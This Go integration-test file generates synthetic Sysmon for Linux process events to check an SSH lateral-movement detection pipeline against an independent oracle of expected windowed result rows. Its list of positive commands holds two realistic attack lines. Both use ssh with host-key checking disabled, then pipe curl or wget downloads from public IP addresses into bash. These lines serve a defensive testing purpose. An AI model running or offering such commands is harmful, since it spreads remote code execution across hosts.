package integration

import (
	"fmt"
	"math/rand/v2"
	"sort"
	"strings"
	"time"

	"github.com/sshlateral/sshlateral/integration/escurow"
)

// A generated stream with known positives. The expectation is computed from
// the generator's own labels with ESCU's windowing written out here again,
// not by running the processor, so the suite checks the pipeline against an
// independent oracle.

const (
	escuWindow = time.Hour
	escuOffset = 50 * time.Minute
)

// escuWindowStart is the start of the :50-aligned hour holding t.
func escuWindowStart(t time.Time) time.Time {
	ms := t.UnixMilli() - escuOffset.Milliseconds()
	w := escuWindow.Milliseconds()
	start := ms - ((ms%w)+w)%w
	return time.UnixMilli(start + escuOffset.Milliseconds()).UTC()
}

type genEvent struct {
	host, user, parentImage, image, cmd string
	pid, ppid                           int
	at                                  time.Time
	positive                            bool
}

// sysmonLine renders e as a syslog-prefixed Sysmon for Linux EventID 1.
func sysmonLine(e genEvent) []byte {
	esc := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;", "'", "&apos;")
	return fmt.Appendf(nil, `%s %s sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="%s"/><EventRecordID>%d</EventRecordID><Correlation/><Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel><Computer>%s</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">%s</Data><Data Name="ProcessGuid">{ec2c9708-52f2-6a26-1d88-a2da375b0000}</Data><Data Name="ProcessId">%d</Data><Data Name="Image">%s</Data><Data Name="FileVersion">-</Data><Data Name="Description">-</Data><Data Name="Product">-</Data><Data Name="Company">-</Data><Data Name="OriginalFileName">-</Data><Data Name="CommandLine">%s</Data><Data Name="CurrentDirectory">/root</Data><Data Name="User">%s</Data><Data Name="LogonGuid">{ec2c9708-5146-6a26-e803-000000000000}</Data><Data Name="LogonId">0</Data><Data Name="TerminalSessionId">1</Data><Data Name="IntegrityLevel">no level</Data><Data Name="Hashes">-</Data><Data Name="ParentProcessGuid">{ec2c9708-52f2-6a26-a106-000300000000}</Data><Data Name="ParentProcessId">%d</Data><Data Name="ParentImage">%s</Data><Data Name="ParentCommandLine">%s</Data><Data Name="ParentUser">%s</Data></EventData></Event>`,
		e.at.UTC().Format(time.RFC3339Nano), e.host, e.at.UTC().Format("2006-01-02T15:04:05.000000000Z"), e.pid,
		esc.Replace(e.host), e.at.UTC().Format("2006-01-02 15:04:05.000"), e.pid, esc.Replace(e.image), esc.Replace(e.cmd),
		esc.Replace(e.user), e.ppid, esc.Replace(e.parentImage), esc.Replace(e.parentImage), esc.Replace(e.user))
}

// expectedRow is one ESCU result row.
type expectedRow struct {
	escurow.Row
	WindowStart time.Time
}

func (r expectedRow) key() string {
	return strings.Join([]string{r.Dest, r.User, r.ParentProcessName, r.ProcessName, r.Process, r.ProcessID, r.ParentProcessID,
		r.WindowStart.Format(time.RFC3339)}, "\x1f")
}

type generatedStream struct {
	events []genEvent
	// final holds one row per group and window: what final emission writes.
	final map[string]expectedRow
	// positives counts matching events.
	positives int
}

var positiveCommands = []string{
	`ssh -oBatchMode=yes -oConnectTimeout=5 -oStrictHostKeyChecking=no 10.0.%d.%d (curl -fsSL http://107.189.11.170/2start.jpg||wget -q -O- http://107.189.11.170/2start.jpg)|bash -sh >/dev/null 2>&1 &`,
	`ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=3 -i /root/.ssh/id_rsa root@10.0.%d.%d -p 22 curl -A hostcheck/1.5 -L https://34.92.166.158:8080/files/xanthe | bash -s;`,
}

var negativeCommands = []string{
	"/usr/bin/ls -la /var/log", "/usr/sbin/cron -f", "/usr/bin/python3 /opt/app/worker.py --queue default",
	"ssh -oBatchMode=yes backup@10.0.0.9 uptime", "curl -oConnectTimeout http://example.internal/health",
	"/bin/sh -c gh auth token", "systemctl status sshd",
}

// generateStream makes n events over hosts, in increasing time from start,
// about one in positiveEvery a positive. Some positives repeat an earlier
// group's exact command and pid so counts exceed one, and a group crosses a
// window boundary.
func generateStream(seed uint64, n, hosts, positiveEvery int, start time.Time, step time.Duration) generatedStream {
	rng := rand.New(rand.NewPCG(seed, seed^0x5eed))
	g := generatedStream{final: map[string]expectedRow{}}
	var previous []genEvent
	at := start
	for i := 0; i < n; i++ {
		at = at.Add(step)
		host := fmt.Sprintf("host-%04d.corp.example", rng.IntN(hosts))
		e := genEvent{host: host, user: "svc", parentImage: "/usr/bin/bash", image: "/usr/bin/ls",
			pid: 1000 + rng.IntN(30000), ppid: 900 + rng.IntN(100), at: at}
		if rng.IntN(positiveEvery) == 0 {
			if len(previous) > 0 && rng.IntN(3) == 0 {
				// A repeat of an earlier positive: same group, later time.
				p := previous[rng.IntN(len(previous))]
				p.at = at
				e = p
			} else {
				e.user = "root"
				e.image = "/usr/bin/ssh"
				e.cmd = fmt.Sprintf(positiveCommands[rng.IntN(len(positiveCommands))], rng.IntN(255), rng.IntN(255))
				e.positive = true
				previous = append(previous, e)
			}
		} else {
			c := negativeCommands[rng.IntN(len(negativeCommands))]
			e.cmd = c
			e.image = "/usr/bin/" + strings.Fields(c)[0][strings.LastIndex(strings.Fields(c)[0], "/")+1:]
		}
		g.events = append(g.events, e)
		if e.positive {
			g.positives++
			g.add(e)
		}
	}
	return g
}

func (g *generatedStream) add(e genEvent) {
	row := expectedRow{Row: escurow.Row{
		Dest: e.host, User: e.user, ParentProcessName: base(e.parentImage), ProcessName: base(e.image),
		Process: e.cmd, ProcessID: fmt.Sprint(e.pid), ParentProcessID: fmt.Sprint(e.ppid),
	}, WindowStart: escuWindowStart(e.at)}
	ts := e.at.UTC().Format(escurow.TimeLayout)
	if old, ok := g.final[row.key()]; ok {
		old.Count++
		old.LastTime = ts
		g.final[row.key()] = old
		return
	}
	row.Count, row.FirstTime, row.LastTime = 1, ts, ts
	g.final[row.key()] = row
}

func base(p string) string { return p[strings.LastIndex(p, "/")+1:] }

// lines renders every event.
func (g generatedStream) lines() [][]byte {
	out := make([][]byte, len(g.events))
	for i, e := range g.events {
		out[i] = sysmonLine(e)
	}
	return out
}

// rows returns the expected rows in a stable order.
func (g generatedStream) rows() []expectedRow {
	out := make([]expectedRow, 0, len(g.final))
	for _, r := range g.final {
		out = append(out, r)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].key() < out[j].key() })
	return out
}

// closer returns a non-matching event far enough after the stream's end to
// close every window: produced to every partition, it moves each
// partition's watermark past the last window.
func (g generatedStream) closer(host string) []byte {
	last := g.events[len(g.events)-1].at
	return sysmonLine(genEvent{host: host, user: "svc", parentImage: "/usr/bin/bash", image: "/usr/bin/true",
		cmd: "/usr/bin/true", pid: 1, ppid: 1, at: last.Add(3 * time.Hour)})
}
